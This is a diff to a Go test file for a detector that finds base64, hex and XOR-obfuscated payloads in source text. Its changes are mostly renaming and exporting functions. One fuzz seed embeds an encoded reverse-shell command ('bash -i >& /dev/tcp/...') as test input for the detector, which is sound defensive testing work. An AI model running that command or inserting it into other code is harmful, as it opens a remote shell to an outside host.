@@ -1,4 +1,4 @@
-package program
+package encoded
 
 import (
 	"encoding/base64"
@@ -6,6 +6,9 @@ import (
 	"strings"
 	"testing"
 )
+
+// limit is lint/program's maxLayers, the runs it asks Find for.
+const limit = 64
 
 func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
 
@@ -19,25 +22,25 @@ func FuzzDecode(f *testing.F) {
 	f.Add("k = 0x5A\nB = '" + b64(string(xorWith([]byte("bash -i >& /dev/tcp/203.0.113.9/443 0>&1"), []byte{0x5a}))) + "'\nx = b ^ k\n")
 	f.Add("KEY = b\"s3\"\nD = [16, 70, 17, 30, 19, 89, 0, 19]\ny = c ^ KEY[i % 2] ^ 0x7 ^ ^ ^x")
 	f.Fuzz(func(t *testing.T, src string) {
-		last, prev := 0, encoded{}
-		for _, e := range findEncoded(src, maxLayers) {
+		last, prev := 0, Run{}
+		for _, e := range Find(src, limit) {
 			// A run may come twice: as it decodes, then XORed with a key.
-			if (e.off < last && (e.off != prev.off || e.end != prev.end)) || e.end > len(src) || e.off >= e.end {
-				t.Fatalf("run %d..%d out of order or range (text %d bytes)", e.off, e.end, len(src))
+			if (e.Off < last && (e.Off != prev.Off || e.End != prev.End)) || e.End > len(src) || e.Off >= e.End {
+				t.Fatalf("run %d..%d out of order or range (text %d bytes)", e.Off, e.End, len(src))
 			}
-			last, prev = e.end, e
+			last, prev = e.End, e
 		}
 		if len(xorKeys(src)) > maxXORKeys {
 			t.Fatalf("more than %d XOR keys", maxXORKeys)
 		}
-		if u := unescape(src); len(u) > 4*len(src)+4 {
-			t.Fatalf("unescape grew %d bytes to %d", len(src), len(u))
+		if u := Unescape(src); len(u) > 4*len(src)+4 {
+			t.Fatalf("Unescape grew %d bytes to %d", len(src), len(u))
 		}
-		decodeBase64(src)
-		decodeBase32(src)
-		decodeHex(src)
-		charCodes(src)
-		_ = rot13(src) + reverse(src)
+		DecodeBase64(src)
+		DecodeBase32(src)
+		DecodeHex(src)
+		CharCodes(src)
+		_ = Rot13(src) + Reverse(src)
 	})
 }
 
@@ -70,11 +73,11 @@ func TestXOR(t *testing.T) {
 		{"a regular expression's anchor", "B = '" + one + "'\nok = re.match(r'^[a-z]+$', s)\n", false},
 	} {
 		got := false
-		for _, e := range findEncoded(c.text, maxLayers) {
-			if strings.Contains(e.how, "XOR") {
-				got = got || e.text == payload
-				if e.text != payload {
-					t.Errorf("%s: XOR layer %q", c.name, e.text)
+		for _, e := range Find(c.text, limit) {
+			if strings.Contains(e.How, "XOR") {
+				got = got || e.Text == payload
+				if e.Text != payload {
+					t.Errorf("%s: XOR layer %q", c.name, e.Text)
 				}
 			}
 		}
